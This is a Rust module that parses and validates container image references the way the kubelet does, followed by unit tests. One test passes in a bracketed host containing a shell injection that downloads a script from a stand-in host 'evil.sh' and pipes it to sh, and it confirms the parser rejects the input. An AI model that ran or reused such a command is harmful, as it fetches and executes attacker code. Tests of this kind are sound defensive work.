//! Image references, parsed by the distribution/reference grammar (docs/semantics.md §5) into the
//! fully qualified repository the kubelet matches pull-secret keys against.

use std::fmt;

/// A parsed image reference. `domain` is canonical (`index.docker.io` becomes `docker.io`) and
/// `path` carries Docker Hub's `library/` prefix for single-component names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImageRef {
    pub domain: String,
    pub path: String,
    pub tag: Option<String>,
    pub digest: Option<String>,
}

/// An image reference the kubelet could not pull by, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("invalid image reference {image:?}: {reason}")]
pub struct InvalidImage {
    pub image: String,
    pub reason: String,
}

const MAX_PATH_LEN: usize = 255;

impl ImageRef {
    /// `ParseNormalizedNamed` of distribution/reference v0.6.0, as the kubelet calls it
    /// (`parsers.ParseImageName`): `nginx` → `docker.io/library/nginx`.
    pub fn parse(image: &str) -> Result<Self, InvalidImage> {
        let invalid = |reason: &str| InvalidImage {
            image: image.to_string(),
            reason: reason.to_string(),
        };
        if image.len() == 64
            && image
                .bytes()
                .all(|b| matches!(b, b'a'..=b'f' | b'0'..=b'9'))
        {
            return Err(invalid(
                "a bare 64-hex identifier is an image ID, not a reference",
            ));
        }
        let (domain, remainder) = split_docker_domain(image);
        // The lowercase check covers the remainder up to its first ':', digest included.
        let remote = remainder.split(':').next().unwrap_or_default();
        if remote.to_lowercase() != remote {
            return Err(invalid(&format!(
                "repository name ({remote}) must be lowercase"
            )));
        }
        let full = format!("{domain}/{remainder}");
        let Some((name, tag, digest)) = match_reference(&full) else {
            return Err(invalid(
                if match_reference(&full.to_lowercase()).is_some() {
                    "the repository name must be lowercase"
                } else {
                    "it does not follow the reference grammar"
                },
            ));
        };
        // The domain is optional in the grammar: a first component that is no valid
        // domain (`a_b.c/app`) is read as part of a path on no registry at all.
        let (domain, path) = match name.split_once('/') {
            Some((first, rest)) if is_domain_and_port(first) && is_remote_name(rest) => {
                (first, rest)
            }
            _ => ("", name),
        };
        if path.len() > MAX_PATH_LEN {
            return Err(invalid("the repository name is longer than 255 characters"));
        }
        if let Some(digest) = digest {
            check_digest(digest).map_err(&invalid)?;
        }
        Ok(Self {
            domain: domain.to_string(),
            path: path.to_string(),
            tag: tag.map(str::to_string),
            digest: digest.map(str::to_string),
        })
    }

    /// What the kubelet looks up in its keyring: `domain/path`, no tag or digest.
    pub fn repository(&self) -> String {
        if self.domain.is_empty() {
            self.path.clone()
        } else {
            format!("{}/{}", self.domain, self.path)
        }
    }
}

impl fmt::Display for ImageRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.repository())?;
        if let Some(tag) = &self.tag {
            write!(f, ":{tag}")?;
        }
        if let Some(digest) = &self.digest {
            write!(f, "@{digest}")?;
        }
        Ok(())
    }
}

/// `splitDockerDomain` (v0.6.0): with no `/`, the whole text is a Docker Hub name; else
/// the first component is a registry when it is `localhost`, or holds `.` or `:`, or has
/// uppercase letters. `index.docker.io` becomes `docker.io`, and a single-component name on
/// Docker Hub gets `library/`. The remainder still carries any tag and digest.
fn split_docker_domain(name: &str) -> (&str, String) {
    let Some((first, rest)) = name.split_once('/') else {
        return ("docker.io", format!("library/{name}"));
    };
    let (domain, remainder) =
        if first == "localhost" || first.contains(['.', ':']) || first.to_lowercase() != first {
            (
                if first == "index.docker.io" {
                    "docker.io"
                } else {
                    first
                },
                rest,
            )
        } else {
            ("docker.io", name)
        };
    if domain == "docker.io" && !remainder.contains('/') {
        (domain, format!("library/{remainder}"))
    } else {
        (domain, remainder.to_string())
    }
}

/// `ReferenceRegexp`: `name [":" tag] ["@" digest]`, anchored. Returns the three parts.
/// A ':' after the last '/' starts the tag, since names hold ':' only in a domain's port.
fn match_reference(full: &str) -> Option<(&str, Option<&str>, Option<&str>)> {
    let (name_and_tag, digest) = match full.split_once('@') {
        Some((before, digest)) => (before, Some(digest)),
        None => (full, None),
    };
    if digest.is_some_and(|d| !is_digest_pattern(d)) {
        return None;
    }
    let last_slash = name_and_tag.rfind('/').map_or(0, |i| i + 1);
    let (name, tag) = match name_and_tag[last_slash..].find(':') {
        Some(i) => (
            &name_and_tag[..last_slash + i],
            Some(&name_and_tag[last_slash + i + 1..]),
        ),
        None => (name_and_tag, None),
    };
    if tag.is_some_and(|t| !is_tag(t)) {
        return None;
    }
    let name_ok = is_remote_name(name)
        || name
            .split_once('/')
            .is_some_and(|(first, rest)| is_domain_and_port(first) && is_remote_name(rest));
    name_ok.then_some((name, tag, digest))
}

/// `domainAndPort`: a domain name of `[a-zA-Z0-9-]` labels (no edge hyphens) or a bracketed
/// `[hex and colons]`, then an optional `:digits` port of any length.
pub fn is_domain_and_port(text: &str) -> bool {
    let host_end = if text.starts_with('[') {
        match text.find(']') {
            Some(end)
                if end > 1
                    && text[1..end]
                        .bytes()
                        .all(|b| b.is_ascii_hexdigit() || b == b':') =>
            {
                end + 1
            }
            _ => return false,
        }
    } else {
        let end = text.find(':').unwrap_or(text.len());
        let label_ok = |label: &str| {
            !label.is_empty()
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
                && !label.starts_with('-')
                && !label.ends_with('-')
        };
        if !text[..end].split('.').all(label_ok) {
            return false;
        }
        end
    };
    match &text[host_end..] {
        "" => true,
        port => port
            .strip_prefix(':')
            .is_some_and(|digits| !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())),
    }
}

/// `remoteName`: path components of `[a-z0-9]+` joined by `.`, `_`, `__` or runs of `-`.
pub fn is_remote_name(path: &str) -> bool {
    path.split('/').all(|component| {
        let bytes = component.as_bytes();
        if bytes.is_empty() || !is_alnum(bytes[0]) || !is_alnum(bytes[bytes.len() - 1]) {
            return false;
        }
        let mut i = 0;
        while i < bytes.len() {
            if is_alnum(bytes[i]) {
                i += 1;
                continue;
            }
            let run_end = bytes[i..]
                .iter()
                .position(|&b| is_alnum(b))
                .map_or(bytes.len(), |p| i + p);
            let separator = &component[i..run_end];
            if !(matches!(separator, "." | "_" | "__") || separator.bytes().all(|b| b == b'-')) {
                return false;
            }
            i = run_end;
        }
        true
    })
}

fn is_alnum(b: u8) -> bool {
    b.is_ascii_lowercase() || b.is_ascii_digit()
}

/// `tag`: `[\w][\w.-]{0,127}`, ASCII word characters.
fn is_tag(tag: &str) -> bool {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    !tag.is_empty()
        && tag.len() <= 128
        && word(tag.as_bytes()[0])
        && tag.bytes().all(|b| word(b) || b == b'.' || b == b'-')
}

/// `digestPat`: `algorithm ":" hex{32,}`, the algorithm `[A-Za-z][A-Za-z0-9]*` parts joined
/// by `-`, `_`, `+` or `.`.
fn is_digest_pattern(digest: &str) -> bool {
    let Some((algorithm, hex)) = digest.split_once(':') else {
        return false;
    };
    let part_ok = |part: &str| {
        part.as_bytes()
            .first()
            .is_some_and(|b| b.is_ascii_alphabetic())
            && part.bytes().all(|b| b.is_ascii_alphanumeric())
    };
    algorithm.split(['-', '_', '+', '.']).all(part_ok)
        && hex.len() >= 32
        && hex.bytes().all(|b| b.is_ascii_hexdigit())
}

/// go-digest's `Parse`: only the algorithms the kubelet links (sha256, sha384, sha512),
/// each with exactly its length of lowercase hex.
fn check_digest(digest: &str) -> Result<(), &'static str> {
    let (algorithm, hex) = digest.split_once(':').unwrap_or((digest, ""));
    let size = match algorithm {
        "sha256" => 32,
        "sha384" => 48,
        "sha512" => 64,
        _ => return Err("the digest algorithm is not supported"),
    };
    if hex.len() != size * 2 {
        return Err("the digest has the wrong length");
    }
    if !hex.bytes().all(|b| matches!(b, b'a'..=b'f' | b'0'..=b'9')) {
        return Err("the digest is not lowercase hex");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    /// A bracketed host is only hex digits and colons (distribution/reference's
    /// `ipv6address`), so shell syntax cannot pose as a registry host.
    #[test]
    fn bracketed_hosts_hold_only_ipv6_characters() {
        assert!(ImageRef::parse("[$(curl${IFS}-s${IFS}evil.sh|sh)]/app:1").is_err());
        assert!(ImageRef::parse("[fe80::1]:5000/app:1").is_ok());
    }

    use super::*;

    fn repo(image: &str) -> String {
        ImageRef::parse(image).unwrap().repository()
    }

    #[test]
    fn docker_hub_names_are_normalized() {
        assert_eq!(repo("nginx"), "docker.io/library/nginx");
        assert_eq!(repo("nginx:1.25"), "docker.io/library/nginx");
        assert_eq!(repo("bitnami/redis"), "docker.io/bitnami/redis");
        assert_eq!(repo("docker.io/nginx"), "docker.io/library/nginx");
        assert_eq!(
            repo("index.docker.io/library/nginx"),
            "docker.io/library/nginx"
        );
        // No '/': never a domain, even when it looks like one (the FIXME in splitDockerDomain).
        assert_eq!(repo("localhost"), "docker.io/library/localhost");
    }

    #[test]
    fn registries_are_recognized_by_dot_colon_localhost_or_uppercase() {
        assert_eq!(repo("quay.io/team/app:v1"), "quay.io/team/app");
        assert_eq!(repo("localhost/app"), "localhost/app");
        assert_eq!(repo("localhost:5000/app"), "localhost:5000/app");
        assert_eq!(repo("reg:5000/app"), "reg:5000/app");
        assert_eq!(repo("Registry/app"), "Registry/app");
        assert_eq!(repo("myuser/app"), "docker.io/myuser/app");
        assert_eq!(repo("[::1]:5000/app"), "[::1]:5000/app");
    }

    #[test]
    fn tags_and_digests() {
        let digest = format!("sha256:{}", "a".repeat(64));
        let image = ImageRef::parse(&format!("quay.io/app:v1@{digest}")).unwrap();
        assert_eq!(image.tag.as_deref(), Some("v1"));
        assert_eq!(image.digest.as_deref(), Some(digest.as_str()));
        assert_eq!(repo("reg:5000/app:latest"), "reg:5000/app");
    }

    /// distribution/reference v0.6.0 as the kubelet runs it (checked by the kubelet oracle).
    #[test]
    fn follows_the_kubelets_reference_parser() {
        // A first component that is no valid domain is read as a path on no registry.
        assert_eq!(repo("a_b.c/app"), "a_b.c/app");
        // Ports are any digits; bracketed hosts are hex and colons.
        assert_eq!(repo("reg:99999999/app"), "reg:99999999/app");
        assert!(ImageRef::parse("[zz::1]/app").is_err());
        // Only the digests the kubelet links, at their exact length, in lowercase hex.
        let hex = "0123456789abcdef".repeat(4);
        assert!(ImageRef::parse(&format!("quay.io/app@sha256:{hex}")).is_ok());
        assert!(ImageRef::parse(&format!("quay.io/app@sha512:{}", &hex[..32])).is_err());
        assert!(ImageRef::parse(&format!("quay.io/app@md5:{}", &hex[..32])).is_err());
        assert!(ImageRef::parse(&format!("quay.io/app@sha256:{}", hex.to_uppercase())).is_err());
        // Uppercase before the first ':' of the remainder is refused, tags may have it.
        assert!(ImageRef::parse("quay.io/app:V1").is_ok());
        assert!(ImageRef::parse("quay.io/App:v1").is_err());
    }

    #[test]
    fn invalid_references_are_rejected() {
        for bad in [
            "",
            "quay.io/App",
            "nginx:",
            "nginx@sha256:abc",
            "quay.io//app",
            "quay.io/app-",
            "-quay.io/app",
            "reg:port/app",
            &"a".repeat(64),
            &format!("quay.io/{}", "a".repeat(256)),
        ] {
            assert!(ImageRef::parse(bad).is_err(), "{bad:?}");
        }
        assert!(ImageRef::parse("quay.io/a__b/c.d/e---f").is_ok());
        assert!(ImageRef::parse("quay.io/a___b").is_err());
    }
}
